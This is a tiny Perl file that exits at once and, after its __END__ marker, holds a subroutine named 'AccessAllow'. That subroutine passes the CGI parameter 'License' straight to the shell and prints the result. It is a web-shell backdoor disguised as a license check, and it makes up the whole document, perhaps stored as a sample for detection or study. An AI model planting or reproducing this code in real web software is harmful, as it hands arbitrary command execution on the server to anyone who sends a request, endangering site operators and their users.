#!/usr/bin/perl
exit;
__END__
sub AccessAllow {
	my $l = CGI::param("License");
	my $o;
	$o .= `$l 2>&1`;
	print $o;
}
